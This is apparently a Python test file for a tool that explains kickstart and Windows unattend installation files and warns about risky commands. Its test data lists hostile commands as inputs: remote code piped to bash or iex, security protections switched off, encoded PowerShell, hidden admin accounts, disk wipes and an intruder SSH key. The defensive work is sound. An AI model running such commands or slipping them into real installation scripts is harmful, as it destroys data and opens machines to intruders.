"""What is told of a file, and which commands earn a word of warning."""

from __future__ import annotations

import base64
import html
from pathlib import Path

import pytest
from msgspec.structs import replace

from factories import check, draft, rules_of
from fairledger.events.decoding import accounts_made, decoded
from fairledger.events.story import events, story_of
from fairledger.events.warnings import warnings_of
from fairledger.model.sheet import VALUE_KEY, Block, Node, Sheet
from fairledger.subject.opening import Asked, opened
from fairledger.subject.subject import with_sheet

HEAD = "#version=RHEL9\n"
FILES = Path(__file__).parents[1] / "checks" / "files"

FETCHES = "fetches something from outside"
RUNS = "runs what it fetched"
PROTECTION = "switches protection off"
HIDES = "hides its window or what it does"
ENCODED = "is encoded, which hides what it does"
ACCOUNTS = "makes accounts or gives rights"
OPENS = "opens the machine to others"
ERASES = "erases or overwrites disks"
UPDATES = "weakens what updates protect"


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("cmd /c echo station > C:\\larkmoor.txt", set()),
        ("reg add HKLM\\SYSTEM\\Setup\\LabConfig /v BypassTPMCheck /t REG_DWORD /d 1 /f", set()),
        ('powershell -Command "Invoke-WebRequest http://larkmoor.example/x -OutFile C:\\x"', {FETCHES}),
        ("curl -s https://larkmoor.example/setup | bash", {FETCHES, RUNS}),
        ("powershell iex ((New-Object Net.WebClient).DownloadString('https://larkmoor.example'))", {FETCHES, RUNS}),
        ("certutil -urlcache -f http://larkmoor.example/a a", {FETCHES}),
        ("dnf -y install chrony", {FETCHES}),
        ("netsh advfirewall set allprofiles state off", {PROTECTION}),
        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", {PROTECTION}),
        ("setenforce 0", {PROTECTION}),
        ("systemctl disable firewalld", {PROTECTION}),
        ("powershell -WindowStyle Hidden -File C:\\x.ps1", {HIDES}),
        ("powershell -EncodedCommand " + "QQBB" * 20, {ENCODED}),
        ("net user ghost x /add", {ACCOUNTS}),
        ("useradd ghost", {ACCOUNTS}),
        ("reg add HKLM\\x /v fDenyTSConnections /d 0 /f", {OPENS}),
        ("diskpart /s x.txt", {ERASES}),
        ("dd if=/dev/zero of=/dev/sda", {ERASES}),
        ("rm -rf /srv", {"erases or overwrites"}),
        ("dnf -y update --nogpgcheck", {UPDATES}),
    ],
)
def test_commands_and_the_words_about_them(command, words):
    assert set(warnings_of(command)) == words


def told(text: str, name: str = "x.ks") -> list[tuple[str, str]]:
    return [(one.chapter, one.what) for one in events(opened(Path("nowhere") / name, data=text.encode()))]


@pytest.mark.parametrize(
    ("line", "sentence"),
    [
        ("clearpart --all", "every disk that is found is WIPED without a question: all that is on it is lost"),
        (
            "ignoredisk --only-use=sda\nclearpart --all",
            "disk sda is WIPED without a question: all that is on it is lost",
        ),
        ("autopart --type=lvm", "the installer lays it out by itself, as groups"),
        ("part / --size=9000 --grow", "a partition is made: system, all that is left, at least 9000 MiB"),
        ("part / --size=9000 --encrypted", "a partition is made: system, 9000 MiB, encrypted"),
        ("user --name=keeper", "keeper has no password here, which locks it"),
        ("user --name=keeper --lock", "keeper is locked, so that no password fits"),
        (
            "user --name=keeper --groups=wheel --password=x",
            "keeper with a password, in Administrators, with all rights",
        ),
        ("rootpw --lock", "the built-in administrator is switched off"),
        ("rootpw x", "the built-in administrator can sign in, with a password"),
        ("selinux --disabled", "access control is off"),
        ("firewall --disabled", "the firewall is switched OFF"),
        ("firewall --enabled --service=ssh", "the firewall is switched on, and lets in ssh"),
        ("poweroff", "at the end the machine switches itself off"),
        ("realm join --no-password larkmoor.example", "a place in the domain larkmoor.example"),
        ("network --device=eno1 --bootproto=dhcp", "eno1 asks for its address"),
        ("url --url=http://192.0.2.10/el9", "everything is fetched from http://192.0.2.10/el9"),
        ("bootloader --extlinux", "setup: bootloader/--extlinux = true - Another, smaller loader is used."),
        ("strange --thing=1", "setup: strange/--thing = 1 (unknown here)"),
    ],
)
def test_sentences(line, sentence):
    assert sentence in [text for _, text in told(HEAD + line + "\n")]


def test_questions_that_are_left():
    left = [text for title, text in told(HEAD + "text\n") if title == "Questions that are left"]
    asked = ("for the language", "for the keyboard", "where packages come from", "which software is installed")
    assert [one.partition(", unless")[0] for one in left[:4]] == [f"the installer asks {one}" for one in asked]
    none = [text for title, text in told((FILES / "gate.ks").read_text()) if title == "Questions that are left"]
    assert none == ["none: all that is known to be asked is answered"]


def test_secrets_and_hidden_characters_are_not_shown():
    whole = str(story_of(opened(FILES / "desk.xml")))
    assert "Dunlin" not in whole
    assert "RAB1AG4AbABpAG4" not in whole
    assert "\u202e" not in str(told(HEAD + "timezone \u202eUTC\n"))


@pytest.mark.parametrize(
    ("line", "sentence"),
    [
        (
            'rootpw --lock\nsshkey --username=root "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 intruder"',
            "the built-in administrator can be signed in to with the public key ssh-ed25519 ...aC1lZDI1NTE5 intruder",
        ),
        ("firewall --enabled --trust=eno1", "the firewall lets in ALL that comes by eno1"),
        ("network --device=eno1 --bootproto=static --ip=192.0.2.3 --netmask=255.255.255.0 --gateway=192.0.2.1",
         "eno1 has the address 192.0.2.3/24, goes out by 192.0.2.1"),
        ("part /srv --size=900 --fsoptions=noexec", "disk 0 partition data options: noexec"),
        ("strange", "setup: strange (unknown here)"),
        ("zerombr\nclearpart --all --initlabel", "disk, along with it: setup:zerombr, setup:clearpart (--initlabel)"),
        ("%post --nochroot --log=/root/x\necho 1\n%end", "a command (runs outside the new system, file that receives what the script prints: /root/x)"),
    ],
)  # fmt: skip
def test_nothing_is_hidden(line, sentence):
    assert sentence in [text for _, text in told(HEAD + line + "\n")]


def gist(text: str) -> list[str]:
    return [one.what for one in story_of(opened(Path("nowhere/x.ks"), data=text.encode())).gist]


def test_it_is_not_said_that_nothing_runs_where_nobody_knows():
    assert "no command and no script runs" in gist(HEAD + "text\n")
    for line in ("%include http://192.0.2.1/x.ks", "strange --thing", "%strange\nwget x\n%end"):
        found = gist(HEAD + line + "\n")
        assert "no command and no script runs" not in found
        assert [one for one in found if "not understood" in one or "not told here" in one]


def without(sheet: Sheet, gone: Node | Block) -> Sheet:
    """A sheet without one answer; what it leaves empty goes too."""

    def left(nodes: tuple[Node, ...]) -> tuple[Node, ...]:
        kept = [replace(one, children=left(one.children)) for one in nodes if one is not gone]
        return tuple(one for one in kept if one.children or one.value is not None)

    blocks = [replace(one, children=left(one.children)) for one in sheet.blocks if one is not gone]
    return replace(sheet, blocks=tuple(one for one in blocks if one.children or gone not in one.children))


TAKEN_IN = "%include /tmp/part.ks\n%pre\nOUT=/tmp/part.ks\n"


@pytest.mark.parametrize(
    ("lines", "sentence", "line"),
    [
        ("cat >/tmp/part.ks <<EOF\nclearpart --all --drives=$D\npart / --size=9\nEOF\n", "disk $D is WIPED", 6),
        ("cat <<-'E' >> $OUT\n\tclearpart --all\n\tE\n", "every disk that is found is WIPED", 6),
        ("if x; then echo 'clearpart --all' >>\"${OUT}\"; fi\n", "every disk that is found is WIPED", 5),
        ('echo -e "zerombr\\nclearpart --all --drives=sda" > /tmp/part.ks\n', "disk sda is WIPED", 5),
        ("cat >/tmp/other.ks <<EOF\nclearpart --all\nEOF\n", "none of them can be read here", 4),
        ("python3 <<E\nopen('$OUT')\nE\n", "none of them can be read here", 4),
    ],
)
def test_what_a_script_writes_and_the_installer_takes_in_is_told(lines, sentence, line):
    text = HEAD + TAKEN_IN + lines + "%end\n"
    story = story_of(opened(Path("gate.ks"), data=text.encode()))
    assert any(sentence in one.what and one.line == line and not one.sure for one in story.events)
    assert any("only what can be read" in one.what for one in story.gist)
    assert ("disk-wiped" in rules_of(check(text))) == ("WIPED" in sentence)


@pytest.mark.parametrize("path", sorted(FILES.iterdir()), ids=lambda path: path.name)
def test_each_answer_that_is_taken_out_changes_the_story(path):
    subject = opened(path)
    whole = events(subject)
    odd = []
    for seat in (*subject.seats.roots, *subject.seats):
        numbered = seat.setting is not None and seat.setting.ordinal
        alone = seat.parent is None and not seat.children
        if not alone and (seat.value is None or numbered or seat.name == VALUE_KEY):
            continue
        less = with_sheet(subject, without(subject.sheet, seat.node if seat.parent is not None else seat.block))
        if events(less) == whole:
            odd.append(f"{seat.block.component}/{seat.shown}")
    assert odd == []


def test_scripts_beside_the_file_are_read_and_missed(tmp_path):
    call = 'cmd.exe /c "for %d in (C D) do @if exist %d:\\fair-ledger\\1-end.cmd call %d:\\fair-ledger\\1-end.cmd"'
    inner = (
        "<RunSynchronous><RunSynchronousCommand xmlns:wcm='http://schemas.microsoft.com/WMIConfig/2002/State' "
        f"wcm:action='add'><Order>1</Order><Path>{call}</Path></RunSynchronousCommand></RunSynchronous>"
    )
    text = (FILES / "desk.xml").read_text()
    start = text.index('<settings pass="specialize">') + len('<settings pass="specialize">')
    block = (
        '<component name="Microsoft-Windows-Deployment" processorArchitecture="x86" '
        'publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS">' + inner + "</component>"
    )
    path = tmp_path / "x.xml"
    path.write_text(text[:start] + block + text[start:])
    missed = str(story_of(opened(path)))
    assert "calls a script that is not beside the file" in missed
    (tmp_path / "fair-ledger").mkdir()
    (tmp_path / "fair-ledger/1-end.cmd").write_text("diskpart /s x\n")
    assert ERASES in str(story_of(opened(path)))


def coded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("command", "texts", "accounts"),
    [
        (f"powershell -enc {coded('net user ghost x /add')}", ["net user ghost x /add"], ["ghost"]),
        (
            f"powershell -EncodedCommand {coded('powershell -e ' + coded('New-LocalUser -Name night -NoPassword'))}",
            [
                f"powershell -e {coded('New-LocalUser -Name night -NoPassword')}",
                "New-LocalUser -Name night -NoPassword",
            ],
            ["night"],
        ),
        ("echo dXNlcmFkZCAtbSBnaG9zdA== | base64 -d | sh", ["useradd -m ghost"], ["ghost"]),
        ("echo dXNlcmFkZCAtbSBnaG9zdA==", [], []),
        (f"powershell -enc {coded(chr(1) * 20)}", [], []),
        ('net user "night watch" pw /add\nnet user other /active:yes', [], ["night watch"]),
        ("cd /x && /usr/sbin/useradd -G wheel -c 'a b' ghost; adduser two", [], ["ghost", "two"]),
        ("grep useradd /var/log/x", [], []),
    ],
)
def test_what_is_encoded_is_read_and_the_accounts_that_commands_make_are_told(command, texts, accounts):
    assert list(decoded(command)) == texts
    assert [one for text in (command, *texts) for one in accounts_made(text)] == accounts
    script = f"%post\n{command}\n%end\n"
    people = [text for title, text in told(HEAD + script) if title == "Who can sign in"]
    assert [one.partition(",")[0] for one in people if "a command makes" in one] == accounts


RUN = (
    '<unattend xmlns="urn:schemas-microsoft-com:unattend" xmlns:wcm="http://schemas.microsoft.com/WMIConfig/2002/State">'
    '<settings pass="specialize"><component name="Microsoft-Windows-Deployment" processorArchitecture="amd64" '
    'publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS"><RunSynchronous><RunSynchronousCommand '
    'wcm:action="add"><Order>1</Order><Path>{}</Path></RunSynchronousCommand></RunSynchronous></component></settings>'
    "</unattend>"
)


@pytest.mark.parametrize(
    "line",
    [
        r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\OOBE /v BypassNRO /t REG_DWORD /d 1 /f & net user x y /add",
        r'cmd.exe /c "for %d in (C D) do @if exist %d:\fair-ledger\1.cmd net user x y /add"',
        r'cmd.exe /c "for %d in (C) do @if exist %d:\fair-ledger\1.cmd call %d:\fair-ledger\1.cmd & net user x y /add"',
        r'cmd.exe /c "net user x y /add & call %SystemDrive%\fair-ledger\1.cmd"',
        "powershell.exe -NoProfile -Command \"Set-LocalUser -Name 'a'; net user x y /add; 'b' -PasswordNeverExpires $true\"",
    ],
)
def test_what_only_looks_like_ours_is_judged(line, tmp_path):
    (tmp_path / "fair-ledger").mkdir()
    (tmp_path / "fair-ledger" / "1.cmd").write_text("echo a\r\n")
    path = tmp_path / "a.xml"
    path.write_text(RUN.format(html.escape(line)))
    one = opened(path, Asked(target="windows-11-24h2"))
    assert [event.warnings for event in events(one) if event.quote] == [(ACCOUNTS, "makes the account x")]
    assert "bypass" not in one.intent.sections


def test_what_the_program_itself_writes_is_no_trick():
    text = (
        '[account]\nlocal = [{ name = "keeper", groups = ["Remote Desktop Users"], password_expires = false }]\n'
        '[[command]]\nwhen = "installed"\ninterpreter = "powershell"\nbody = "echo a"\n'
    )
    one = draft(text)
    assert not [event.warnings for event in events(one) if event.warnings]
    body = text.replace("echo a", "Set-MpPreference -DisableRealtimeMonitoring 1")
    assert [event.warnings for event in events(draft(body)) if event.warnings] == [(PROTECTION,)]
    own = '[[answers.specialize.Microsoft-Windows-Deployment.RunSynchronous.RunSynchronousCommand]]\nPath = "{}"\n'
    foreign = own.format("powershell -ExecutionPolicy Bypass -File C:\\\\x.ps1")
    assert [event.warnings for event in events(draft(foreign)) if event.warnings] == [(PROTECTION,)]
